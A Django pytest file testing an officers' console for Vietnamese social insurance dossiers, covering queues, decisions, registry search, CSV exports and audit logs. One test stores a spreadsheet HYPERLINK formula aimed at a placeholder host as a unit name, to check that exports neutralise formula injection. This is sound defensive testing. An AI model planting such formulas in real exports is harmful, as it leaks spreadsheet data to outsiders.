"""The officers' queue: dossiers that need a person, the deadline, overdue highlighting,
accept / reject with a reason, and the registry page."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client
from django.utils import timezone

from openivan.agency import services, views
from openivan.agency.models import (
    Activation,
    Dossier,
    DossierStatus,
    IvanProvider,
    UnitRegistration,
)
from openivan.devpki import samples
from openivan.notify.models import Notification
from openivan.platform.models import AuditEvent
from tests.agency.test_activation import activate, send
from tests.conftest import run_worker
from tests.mailserver import activation_link, body_of, confirmation_code

pytestmark = pytest.mark.django_db(transaction=True)



def new_unit_dossier(provider, envelope, mailserver) -> Dossier:  # type: ignore[no-untyped-def]
    """A unit without a unit code: after activation it waits for an officer."""
    declaration = samples.registration(unit_code=None)
    declaration.licence_number, declaration.licence_issuer = "0101300842", "Sở KH&ĐT Hà Nội"
    dossier, email = send(provider, envelope, mailserver, declaration)
    done = activate(activation_link(email), confirmation_code(email))
    assert "Cán bộ BHXH sẽ xử lý hồ sơ chậm nhất" in done.content.decode()
    dossier.refresh_from_db()
    return dossier


def test_unit_without_code_waits_in_the_queue_with_its_deadline(
        provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    assert dossier.status == DossierStatus.NEEDS_REVIEW
    assert not dossier.answers.filter(kind="decision").exists()
    assert not UnitRegistration.objects.exists()
    html = officer.get("/co-quan/ho-so/").content.decode()
    assert dossier.number in html and "đơn vị chưa có mã đơn vị BHXH" in html
    assert timezone.localtime(dossier.decision_deadline).strftime("%H:%M %d/%m/%Y") in html
    assert "quá hạn" not in html
    english = officer.get("/co-quan/ho-so/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "the unit has no BHXH unit code yet" in english
    step = dossier.steps.get(code="CHO_CAN_BO")  # the provider's record stays Vietnamese
    assert step.description == "Chuyển cán bộ xử lý: đơn vị chưa có mã đơn vị BHXH"
    run_worker()
    completion = body_of(mailserver.wait_for(2)[1])  # the unit's email is Vietnamese too
    assert "đang chờ cán bộ BHXH xử lý (đơn vị chưa có mã đơn vị BHXH)" in completion


def test_overdue_dossier_is_highlighted(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    Dossier.objects.filter(pk=dossier.pk).update(
        decision_deadline=timezone.now() - timedelta(minutes=1))
    html = officer.get("/co-quan/ho-so/").content.decode()
    assert 'class="overdue"' in html and "quá hạn" in html
    detail = officer.get(f"/co-quan/ho-so/{dossier.number}/").content.decode()
    assert "quá hạn" in detail


def test_officer_accepts_and_assigns_a_unit_code(provider, envelope, mailserver, officer, verifier):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    response = officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                            {"decision": "accept", "unit_code": "ta9999", "confirmed": "1"})
    assert response.status_code == 302
    dossier.refresh_from_db()
    assert dossier.status == DossierStatus.ACCEPTED and dossier.unit_code == "TA9999"
    assert dossier.decided_by.username == "canbo01"
    decision = dossier.answers.get(kind="decision")
    assert decision.result == "ChapNhan"
    verifier.verify_document(bytes(decision.signed_xml))
    assert UnitRegistration.objects.get().unit_code == "TA9999"
    run_worker()
    result = mailserver.messages[-1]
    assert result["Subject"].strip() == f"Kết quả xử lý hồ sơ {dossier.number}: Chấp nhận"
    assert "Mã đơn vị: TA9999" in body_of(result)
    page = officer.get(f"/co-quan/don-vi/{samples.UNIT_TAX_CODE}/").content.decode()
    assert "TA9999" in page and "1001" in page and "Đang giao dịch" in page
    assert list(AuditEvent.objects.order_by("id").values_list("actor", "action", "target")
                .filter(actor="user:canbo01").exclude(target="account:canbo01")) == [
        ("user:canbo01", "registration.started",
         f"registration:{samples.UNIT_TAX_CODE}/{samples.PROVIDER.code}"),
        ("user:canbo01", "dossier.accepted", f"dossier:{dossier.number}")]


def test_officer_rejects_with_a_reason(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                 {"decision": "reject", "reason": "Giấy phép không khớp đăng ký doanh nghiệp",
                  "confirmed": "1"})
    dossier.refresh_from_db()
    assert dossier.status == DossierStatus.REJECTED
    decision = dossier.answers.get(kind="decision")
    assert decision.result == "TuChoi"
    assert decision.data["reasons"][0]["message"].startswith("Giấy phép không khớp")
    run_worker()
    assert "Lý do: Giấy phép không khớp" in body_of(mailserver.messages[-1])
    assert not UnitRegistration.objects.exists()
    event = AuditEvent.objects.get(action="dossier.rejected")
    assert (event.actor, event.target) == ("user:canbo01", f"dossier:{dossier.number}")
    assert event.details["reason"].startswith("Giấy phép không khớp")


def test_refusal_without_reason_is_refused_and_changes_nothing(
        provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    response = officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                            {"decision": "reject", "reason": "  "})
    assert "Từ chối hồ sơ phải kèm lý do." in response.content.decode()
    dossier.refresh_from_db()
    assert dossier.status == DossierStatus.NEEDS_REVIEW


def test_a_decided_dossier_cannot_be_decided_again(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    url = f"/co-quan/ho-so/{dossier.number}/quyet-dinh/"
    officer.post(url, {"decision": "accept", "unit_code": "TA9999", "confirmed": "1"})
    response = officer.post(url, {"decision": "reject", "reason": "x", "confirmed": "1"},
                            follow=True)
    assert "DECISION_NOT_ALLOWED" in response.content.decode()
    assert Dossier.objects.get().status == DossierStatus.ACCEPTED


def test_bad_unit_code_is_refused(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    for confirmed in ("", "1"):  # asked, or sent confirmed by hand: refused either way
        response = officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                                {"decision": "accept", "unit_code": "??", "confirmed": confirmed},
                                follow=True)
        assert "UNIT_CODE_FORMAT" in response.content.decode()
    assert Dossier.objects.get().status == DossierStatus.NEEDS_REVIEW


def test_unit_without_code_is_not_accepted_without_one(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    for confirmed in ("", "1"):
        response = officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                                {"decision": "accept", "unit_code": " ", "confirmed": confirmed},
                                follow=True)
        assert "UNIT_CODE_REQUIRED" in response.content.decode()
    dossier.refresh_from_db()
    assert (dossier.status, dossier.unit_code) == (DossierStatus.NEEDS_REVIEW, "")
    assert not AuditEvent.objects.filter(action="dossier.accepted").exists()


def test_a_decision_changes_nothing_until_it_is_confirmed(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    response = officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                            {"decision": "accept", "unit_code": "ta9999"})
    assert response.status_code == 200
    assert "Chấp nhận hồ sơ" in response.content.decode()
    assert "TA9999" in response.content.decode()
    assert Dossier.objects.get().status == DossierStatus.NEEDS_REVIEW
    assert Dossier.objects.get().status == DossierStatus.NEEDS_REVIEW


def test_console_needs_the_officer_permission(db, agency):
    assert Client().get("/co-quan/ho-so/").status_code == 302  # to the sign-in page
    client = Client()
    client.force_login(User.objects.create_user("khach", password="x"))
    assert client.get("/co-quan/ho-so/").status_code == 302
    decided = client.post("/co-quan/ho-so/BHXH-1/quyet-dinh/", {"decision": "accept"})
    assert decided.status_code == 302


def test_the_audit_log_is_one_link_away_for_officers_allowed_to_read_it(
        provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                 {"decision": "reject", "reason": "Sai thông tin", "confirmed": "1"})
    assert "/admin/platform/auditevent/" not in officer.get("/co-quan/ho-so/").content.decode()
    user = User.objects.get(username="canbo01")
    user.is_staff = True
    user.save()
    user.user_permissions.add(Permission.objects.get(codename="view_auditevent"))
    assert "Nhật ký kiểm toán" in officer.get("/co-quan/ho-so/").content.decode()
    log = officer.get("/admin/platform/auditevent/").content.decode()
    assert "dossier.rejected" in log and f"dossier:{dossier.number}" in log
    event = AuditEvent.objects.get(action="dossier.rejected")
    assert officer.post(f"/admin/platform/auditevent/{event.pk}/delete/").status_code == 403
    assert officer.post(f"/admin/platform/auditevent/{event.pk}/change/",
                        {"action": "x"}).status_code == 403
    assert AuditEvent.objects.get(pk=event.pk).action == "dossier.rejected"


def test_an_email_that_gave_up_is_sent_again_from_the_dossier_page(
        provider, envelope, mailserver, officer, settings):
    settings.OPENIVAN_NOTIFY_RETRY_SECONDS, settings.OPENIVAN_NOTIFY_MAX_ATTEMPTS = 0, 1
    mailserver.refuse_next = 1  # the mail server is down when the reception email is due
    response = provider.post(envelope())
    number = response.json()["number"]
    run_worker()
    page = officer.get(f"/co-quan/ho-so/{number}/").content.decode()
    assert "Thư không gửi được" in page and "Gửi lại" in page
    [failed] = Notification.objects.filter(reference=number, status="failed")

    done = officer.post(f"/co-quan/ho-so/{number}/thu/{failed.pk}/gui-lai/", follow=True)
    assert "Thư sẽ được gửi lại." in done.content.decode()
    assert "Thư không gửi được" not in done.content.decode()
    run_worker()
    [email] = mailserver.messages
    assert number in body_of(email) and confirmation_code(email)
    again = officer.post(f"/co-quan/ho-so/{number}/thu/{failed.pk}/gui-lai/", follow=True)
    assert "NOTIFICATION_NOT_FAILED" in again.content.decode()
    assert len(mailserver.messages) == 1


def test_an_email_whose_code_expired_is_not_offered_again(
        provider, envelope, mailserver, officer, settings):
    settings.OPENIVAN_NOTIFY_RETRY_SECONDS, settings.OPENIVAN_NOTIFY_MAX_ATTEMPTS = 0, 1
    mailserver.refuse_next = 1  # the reception email gives up …
    number = provider.post(envelope()).json()["number"]
    run_worker()
    [failed] = Notification.objects.filter(reference=number, status="failed")
    assert failed.valid_until == Activation.objects.get(dossier__number=number).expires_at
    Activation.objects.update(expires_at=timezone.now() - timedelta(seconds=1))  # … and the
    Notification.objects.update(valid_until=timezone.now() - timedelta(seconds=1))  # code ends

    page = officer.get(f"/co-quan/ho-so/{number}/").content.decode()
    assert "Thư không gửi được" not in page and "Gửi lại" not in page
    again = officer.post(f"/co-quan/ho-so/{number}/thu/{failed.pk}/gui-lai/", follow=True)
    assert "NOTIFICATION_OUTDATED" in again.content.decode()
    run_worker()
    assert mailserver.messages == []
    page = officer.get(f"/co-quan/ho-so/{number}/").content.decode()
    assert "không gửi nữa vì nội dung thư đã hết hiệu lực" in page


def test_registry_finds_a_unit_by_its_name_typed_without_accents_or_capitals(
        provider, envelope, mailserver, officer):
    dossier, email = send(provider, envelope, mailserver)
    activate(activation_link(email), confirmation_code(email))
    registration = UnitRegistration.objects.get()
    assert registration.name == samples.UNIT_NAME  # "CÔNG TY TNHH GIẢI PHÁP MỞ"
    for typed in ("giải pháp mở", "giai phap mo", samples.UNIT_TAX_CODE):
        page = officer.get("/co-quan/don-vi/", {"q": typed}).content.decode()
        assert f'href="/co-quan/don-vi/{samples.UNIT_TAX_CODE}/"' in page, typed
        assert "1 đăng ký" in page and "ketoan@giaiphapmo.vn" in page
        found = officer.get("/co-quan/ho-so/", {"queue": "all", "q": typed}).content.decode()
        assert dossier.number in found, typed
    nothing = officer.get("/co-quan/don-vi/", {"q": "giai phap dong"}).content.decode()
    assert "Không có đăng ký nào khớp." in nothing and "ketoan@" not in nothing
    assert dossier.number not in officer.get(
        "/co-quan/ho-so/", {"queue": "all", "q": "giai phap dong"}).content.decode()


def test_registry_lists_transacting_units_unless_asked_for_stopped_ones_or_one_provider(
        provider, envelope, mailserver, officer):
    dossier, email = send(provider, envelope, mailserver)
    activate(activation_link(email), confirmation_code(email))
    other, _ = services.register_provider("00041", "I-VAN KHÁC", "0100109106")
    UnitRegistration.objects.create(
        tax_code="0101300843", name="Hợp tác xã Đồng Tâm", email="htx@dongtam.vn",
        provider=other, status="stopped", since=date(2025, 1, 2), until=date(2026, 3, 1),
        dossier=dossier)

    def listed(**query: str) -> str:
        return officer.get("/co-quan/don-vi/", query).content.decode()

    assert samples.UNIT_TAX_CODE in listed() and "0101300843" not in listed()
    stopped = listed(status="stopped")
    assert "0101300843" in stopped and "02/01/2025–01/03/2026" in stopped
    assert samples.UNIT_TAX_CODE not in stopped
    everyone = listed(status="all")
    assert samples.UNIT_TAX_CODE in everyone and "0101300843" in everyone
    assert "2 đăng ký" in everyone
    only_other = listed(status="all", provider="00041")
    assert "0101300843" in only_other and samples.UNIT_TAX_CODE not in only_other
    assert "0101300843" in listed(status="all", q="dong tam")
    unknown = listed(status="nonsense")  # read as the default: transacting units
    assert samples.UNIT_TAX_CODE in unknown and "0101300843" not in unknown


def received(number: str, status: str, *, hours_ago: int, deadline_in: int,
             tax_code: str = "0101300843") -> Dossier:
    """A dossier row as the intake leaves it (for the lists, which read no bytes)."""
    now = timezone.now()
    return Dossier.objects.create(
        number=number, provider=IvanProvider.objects.get(), message_id=number,
        content_sha256=number.ljust(64, "0"), form_code="04/ĐK-IVAN", unit_tax_code=tax_code,
        unit_name="Hợp tác xã Đồng Tâm", email="htx@dongtam.vn",
        received_at=now - timedelta(hours=hours_ago),
        decision_deadline=now + timedelta(hours=deadline_in), status=status,
        signed_bytes=b"<Hoso/>", verification={}, revocation_evidence=b"")


def test_open_queues_come_most_urgent_first_and_decided_ones_newest_first(provider, officer):
    received("BHXH-20261101-000001", "needs_review", hours_ago=30, deadline_in=40)
    received("BHXH-20261101-000002", "needs_review", hours_ago=20, deadline_in=5)
    received("BHXH-20261101-000003", "accepted", hours_ago=50, deadline_in=-20)
    received("BHXH-20261101-000004", "rejected", hours_ago=10, deadline_in=50)

    def order(queue: str) -> list[str]:
        html = officer.get("/co-quan/ho-so/", {"queue": queue}).content.decode()
        return re.findall(r">(BHXH-20261101-\d{6})<", html)

    assert order("review") == ["BHXH-20261101-000002", "BHXH-20261101-000001"]
    assert order("done") == ["BHXH-20261101-000004", "BHXH-20261101-000003"]
    assert order("all")[0] == "BHXH-20261101-000004"
    assert order("nonsense") == order("review")


def test_a_whole_tax_code_or_dossier_number_finds_exactly_its_dossiers(provider, officer):
    received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
    received("BHXH-20261101-000002", "accepted", hours_ago=2, deadline_in=1,
             tax_code="0101300843-001")  # a branch: its own unit, not the head office's

    def found(q: str) -> set[str]:
        html = officer.get("/co-quan/ho-so/", {"queue": "all", "q": q}).content.decode()
        return set(re.findall(r">(BHXH-20261101-\d{6})<", html))

    assert found("0101300843") == {"BHXH-20261101-000001"}
    assert found("0101300843-001") == {"BHXH-20261101-000002"}
    assert found("01013008") == {"BHXH-20261101-000001", "BHXH-20261101-000002"}  # a part
    assert found("bhxh-20261101-000002") == {"BHXH-20261101-000002"}
    assert found("000002") == {"BHXH-20261101-000002"}


def test_a_list_longer_than_its_cap_says_so_instead_of_counting_every_row(
        provider, officer, monkeypatch):
    monkeypatch.setattr(views, "LIST_CAP", 2)
    for n in range(1, 4):
        received(f"BHXH-20261101-00000{n}", "accepted", hours_ago=n, deadline_in=1)
    html = officer.get("/co-quan/ho-so/", {"queue": "done"}).content.decode()
    assert "Hơn 2 dòng: hãy tìm kiếm hoặc lọc để xem phần còn lại." in html
    monkeypatch.setattr(views, "LIST_CAP", 3)
    assert "Hơn 3 dòng" not in officer.get("/co-quan/ho-so/", {"queue": "done"}).content.decode()


def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Vietnamese right only with it
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_filtered_dossier_list_downloads_whole_as_csv_and_the_export_is_logged(
        provider, officer, monkeypatch):
    monkeypatch.setattr(views, "LIST_CAP", 1)  # the file holds every row, not one page's
    received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
    received("BHXH-20261101-000002", "rejected", hours_ago=2, deadline_in=1)
    received("BHXH-20261101-000003", "needs_review", hours_ago=1, deadline_in=1)
    page = officer.get("/co-quan/ho-so/", {"queue": "done"}).content.decode()
    assert 'href="/co-quan/ho-so/xuat.csv?queue=done&amp;q="' in page
    response = officer.get("/co-quan/ho-so/xuat.csv", {"queue": "done"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="ho-so-')
    header, *rows = csv_rows(response)
    assert header[:4] == ["Số hồ sơ", "Mẫu", "Mã số thuế", "Tên đơn vị"]
    assert [(r[0], r[9]) for r in rows] == [("BHXH-20261101-000002", "Từ chối"),
                                            ("BHXH-20261101-000001", "Chấp nhận")]
    assert rows[0][3] == "Hợp tác xã Đồng Tâm"
    event = AuditEvent.objects.get(action="console.exported")
    assert (event.actor, event.target) == ("user:canbo01", "list:dossiers")
    assert event.details == {"filters": "queue=done&q="}


def test_a_name_that_looks_like_a_formula_arrives_in_the_spreadsheet_as_text(provider, officer):
    dossier = received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
    Dossier.objects.filter(pk=dossier.pk).update(
        unit_name='=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")')
    [_, row] = csv_rows(officer.get("/co-quan/ho-so/xuat.csv", {"queue": "all"}))
    assert row[3] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


def test_the_registry_downloads_as_csv_with_its_filters(provider, officer):
    dossier = received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
    for tax_code, status in (("0101300843", "active"), ("0101300842", "stopped")):
        UnitRegistration.objects.create(
            tax_code=tax_code, name=f"Đơn vị {tax_code}", email="a@b.vn", status=status,
            provider=IvanProvider.objects.get(), since=date(2026, 1, 5), dossier=dossier)
    header, *rows = csv_rows(officer.get("/co-quan/don-vi/xuat.csv", {"status": "stopped"}))
    assert header[0] == "Mã số thuế" and header[-2:] == ["Đăng ký từ ngày", "Đến ngày"]
    assert rows == [["0101300842", "Đơn vị 0101300842", "", "a@b.vn", "00040", "Đã ngừng",
                     "05/01/2026", ""]]
    assert AuditEvent.objects.get(action="console.exported").target == "list:registry"


def test_exports_need_the_officer_permission(db, agency):
    for path in ("/co-quan/ho-so/xuat.csv", "/co-quan/don-vi/xuat.csv"):
        assert Client().get(path).status_code == 302
    assert not AuditEvent.objects.filter(action="console.exported").exists()


def test_a_declaration_with_another_unit_code_than_the_registry_is_refused(
        provider, envelope, mailserver, officer):
    """The officer gave the new unit TA9999: a later 04 or 05 still carrying the old TA1234 is
    refused with UNIT_CODE_MISMATCH (nothing stored), never applied over the registry."""
    dossier = new_unit_dossier(provider, envelope, mailserver)
    services.accept(dossier.number, User.objects.get(username="canbo01"), unit_code="TA9999")
    for declaration in (samples.registration(), samples.change()):
        response = provider.post(envelope(declaration))
        assert response.status_code == 422
        assert response.json()["code"] == "UNIT_CODE_MISMATCH"
        assert "TA9999" in response.json()["message"]
    assert Dossier.objects.count() == 1
    assert set(UnitRegistration.objects.values_list("unit_code", flat=True)) == {"TA9999"}
    # a 04 that names no unit code stands for the registry's, and goes to no officer
    declaration = samples.registration(unit_code=None)
    declaration.licence_number, declaration.licence_issuer = "0101300842", "Sở KH&ĐT Hà Nội"
    again, email = send(provider, envelope, mailserver, declaration)
    assert again.unit_code == "TA9999"
    assert activate(activation_link(email), confirmation_code(email)).status_code == 200
    again.refresh_from_db()
    assert again.status == DossierStatus.ACCEPTED
    assert set(UnitRegistration.objects.values_list("unit_code", flat=True)) == {"TA9999"}


def test_an_officer_cannot_give_a_unit_another_units_code(provider, envelope, mailserver, officer):
    dossier = new_unit_dossier(provider, envelope, mailserver)
    UnitRegistration.objects.create(
        tax_code="0100109106", unit_code="TA9999", name="CÔNG TY KHÁC", email="a@b.vn",
        provider=dossier.provider, since=date(2026, 1, 1), dossier=dossier)
    response = officer.post(f"/co-quan/ho-so/{dossier.number}/quyet-dinh/",
                            {"decision": "accept", "unit_code": "TA9999"})
    assert response.status_code == 422 and "UNIT_CODE_TAKEN" in response.content.decode()
    assert Dossier.objects.get(pk=dossier.pk).status == DossierStatus.NEEDS_REVIEW


def test_a_new_code_is_only_for_a_locked_or_expired_one_and_only_for_officers(
        provider, envelope, mailserver, officer):
    dossier, _ = send(provider, envelope, mailserver)
    token = Activation.objects.get().token
    url = f"/co-quan/ho-so/{dossier.number}/cap-ma-moi/"
    assert Client().post(url).status_code == 302  # to the sign-in: nothing done
    page = officer.post(url, follow=True).content.decode()
    assert "ACTIVATION_REISSUE_NOT_ALLOWED" in page  # the code still works: no need
    assert Activation.objects.get().token == token
    assert not AuditEvent.objects.filter(action="activation.reissued").exists()
    Activation.objects.update(expires_at=timezone.now() - timedelta(seconds=1))
    officer.post(url)
    activation = Activation.objects.get()
    assert activation.token != token and activation.expires_at > timezone.now()
    assert AuditEvent.objects.filter(action="activation.reissued").count() == 1
    assert "CAP_LAI_MA" in [code for _, code, _ in services.timeline(dossier)]


def test_the_audit_log_page_is_for_those_who_may_read_it(provider, envelope, mailserver, officer):
    assert officer.get("/co-quan/nhat-ky/").status_code == 302  # deciding is not reading it
    User.objects.get(username="canbo01").user_permissions.add(
        Permission.objects.get(codename="view_auditevent"))
    page = officer.get("/co-quan/nhat-ky/?action=account.login")
    assert page.status_code == 200 and "canbo01" in page.content.decode()
    wrong = officer.get("/co-quan/nhat-ky/?since=31-12-2026")
    assert wrong.status_code == 422 and "Ngày không hợp lệ: 31-12-2026" in wrong.content.decode()


def test_a_code_given_by_an_officer_reaches_every_registration_of_the_unit(
        provider, envelope, mailserver, officer, pki):
    """The unit also transacts through another provider, registered there without a code:
    once the officer gives it TA9999, that registration carries it too, in the audit log."""
    other, _ = services.register_provider("00041", "I-VAN KHÁC", "0100109106",
                                          [pki.certificate("provider")])
    dossier = new_unit_dossier(provider, envelope, mailserver)
    UnitRegistration.objects.create(
        tax_code=samples.UNIT_TAX_CODE, unit_code="", name=samples.UNIT_NAME, email="a@b.vn",
        provider=other, since=date(2026, 1, 1), dossier=dossier)
    services.accept(dossier.number, User.objects.get(username="canbo01"), unit_code="TA9999")
    assert set(UnitRegistration.objects.values_list("unit_code", flat=True)) == {"TA9999"}
    event = AuditEvent.objects.get(action="registration.unit_code_changed")
    assert event.target == f"registration:{samples.UNIT_TAX_CODE}/00041"
    assert (event.actor, event.details["previous"]) == ("user:canbo01", "")
